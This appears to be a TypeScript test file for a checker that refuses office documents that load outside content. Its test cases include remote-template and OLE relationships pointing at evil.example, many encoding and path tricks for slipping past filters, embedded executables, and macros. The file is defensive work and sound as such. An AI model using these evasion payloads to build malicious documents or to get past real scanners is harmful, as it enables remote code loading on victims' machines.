import { describe, expect, it, test } from 'vitest';
import { officeDocument, zipped } from '../../../tests/factories/files.ts';
import { checkPart } from './office-check.ts';
import { Refused } from './refused.ts';

function refusalOf(name: string, content: string | Buffer): string | null {
  try {
    checkPart(name, Buffer.from(content));
    return null;
  } catch (error) {
    if (error instanceof Refused) return error.refusal;
    throw error;
  }
}

const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships>';
const relation = (type: string, target: string, mode = ' TargetMode="External"'): string =>
  `<Relationship Id="rId1" Type="${TYPES}/${type}" Target="${target}"${mode}/>`;
const inRelations = (tags: string): string | null =>
  refusalOf('word/_rels/settings.xml.rels', `${head}${tags}</Relationships>`);
const AFAR = relation('attachedTemplate', 'http://evil.example/x.dotm');
const OBJECT = Buffer.from('d0cf11e0a1b11ae100', 'hex');

describe('A document of an office opens nothing else', () => {
  test.each([
    'http://evil.example/x.dotm',
    'HTTPS://evil.example/x.dotm',
    ' http://evil.example/x.dotm',
    'mhtml:http://evil.example/x',
    '//evil.example/x.dotm',
    '\\\\evil.example\\x.dotm',
    'file://evil.example/x.dotm',
    'file:////evil.example/x.dotm',
    'file:///\\evil.example/x.dotm',
    'file:///%5C%5Cevil.example/x.dotm',
    'file:///%255C%255Cevil.example/x.dotm',
    '/%09/evil.example/x.dotm',
    'file://localhost//evil.example/x.dotm',
    'file:\\\\evil.example\\x.dotm',
    'C:\\\\evil.example\\x.dotm',
    'h&#116;tp://evil.example/x.dotm',
    '&sol;/evil.example/x.dotm',
    '',
  ])('by a template at %j', (target) => {
    expect(inRelations(relation('attachedTemplate', target))).toBe('scripts');
  });

  test.each([
    ['an object of another program', relation('oleObject', 'embeddings/a.bin', '')],
    ['one from afar', relation('oleObject', 'http://evil.example/a.html!')],
    ['a control', relation('control', 'a.xml', '')],
    ['a text of another format', relation('aFChunk', 'a.rtf', '')],
    ['a piece from afar', relation('subDocument', 'https://evil.example/a.docx')],
    ['a frame from afar', relation('frame', 'https://evil.example/a.htm')],
    ['a table from afar', relation('package', 'https://evil.example/a.xlsx')],
    ['in other quotes', AFAR.replaceAll('"', "'")],
    ['under a prefix', AFAR.replace('<R', '<x:R')],
    ['in letters as numbers', AFAR.replace('attachedT', 'attached&#84;')],
    ['in a mode as numbers', AFAR.replace('External', 'E&#120;ternal')],
    ['in the middle of blanks', AFAR.replace('Type=', '\n Type\t=\n')],
    ['in another spelling', AFAR.replace('attachedTemplate', 'AttachedTemplate')],
    ['behind a remark', `<!-- > -->${AFAR}`],
    ['in names of its own', `<!DOCTYPE a [<!ENTITY b "x">]>${AFAR}`],
    ['behind a sign in a target', relation('hyperlink', 'https://a.sk/?a=1>2') + AFAR],
  ])('by %s', (_, tags) => {
    expect(inRelations(tags)).toBe('scripts');
  });

  test.each([
    ['word/embeddings/oleObject1.bin', 'MZ'],
    ['word/Embeddings/a.doc', OBJECT],
    ['word/other/a.dat', OBJECT],
    ['Object 1', OBJECT],
    ['word/activeX/activeX1.xml', '<a/>'],
    ['word/_rels/settings.xml.rels/[0].piece', AFAR],
    ['word/_rels/settings.xml.rels', Buffer.from(`\uFEFF${head}${AFAR}`, 'utf16le')],
    ['word/_rels/settings.xml.rels', `<?xml version="1.0" encoding="utf-7"?>${AFAR}`],
    ['word/_rels/settings.xml.RELS', AFAR],
    ['xl/embeddings/a.xlsx', officeDocument('xlsx', { 'xl/embeddings/oleObject1.bin': 'MZ' })],
    ['xl/embeddings/a.xlsx', officeDocument('xlsx', { 'xl/_rels/a.rels': AFAR })],
    ['xl/embeddings/a.xlsx', officeDocument('xlsx', { 'xl/embeddings/b.xlsx': officeDocument('xlsx') })],
  ])('in the part %s', (name, content) => {
    expect(refusalOf(name, content)).toBe('scripts');
  });

  it('by a table with macros in it', () => {
    const table = zipped({ 'xl/vbaProject.bin': 'x' });
    expect(refusalOf('word/embeddings/a.xlsx', table)).toBe('macros');
  });

  test.each([AFAR.replace('/>', ' Type="a"/>'), AFAR.replace('Id="', 'Id='), '<Relationship Type="'])(
    'by what readers mend in two ways: %s',
    (tags) => {
      expect(inRelations(tags)).toBe('damaged');
    },
  );
});

describe('An honest document of an office', () => {
  test.each([
    ['leads to pages', relation('hyperlink', 'https://a.sk/?a=1&amp;b=2')],
    ['shows a picture of a page', relation('image', 'https://a.sk/a.png')],
    ['reads another table', relation('externalLinkPath', 'file:///C:\\b.xlsx')],
    [
      'was made from a template',
      relation('attachedTemplate', 'file:///C:\\Users\\J%20N\\Sablony\\A&amp;B.dotx'),
    ],
    ['was made from a template on a Mac', relation('attachedTemplate', 'file://localhost/Users/jn/A.dotx')],
    ['was made from a template elsewhere', relation('attachedTemplate', '/Users/jn/A.dotx')],
    ['names its template alone', relation('attachedTemplate', 'Normal.dotm')],
    ['has a table with its chart', relation('package', '../embeddings/a.xlsx', '')],
    ['has a table, as it says', relation('package', '../embeddings/a.xlsx', ' TargetMode="Internal"')],
  ])('%s', (_, tags) => {
    expect(inRelations(tags)).toBeNull();
  });

  it('has a table with its chart in it', () => {
    expect(refusalOf('word/embeddings/Microsoft_Excel_Worksheet.xlsx', officeDocument('xlsx'))).toBeNull();
  });
});

it('reads a table with a link in each row, and no more of them than that', () => {
  const many = `${head}${relation('hyperlink', 'https://a.sk').repeat(100_000)}</Relationships>`;
  expect(refusalOf('xl/_rels/a.rels', many)).toBeNull();
  expect(refusalOf('xl/_rels/a.rels', `<Relationship ${'a'.repeat(1_000_000)}`)).toBe('damaged');
  expect(refusalOf('xl/_rels/a.rels', `<Relationship ${' '.repeat(1_000_000)}`)).toBe('damaged');
  expect(refusalOf('xl/_rels/a.rels', ' '.repeat(16 * 1024 * 1024 + 1))).toBe('archive');
});
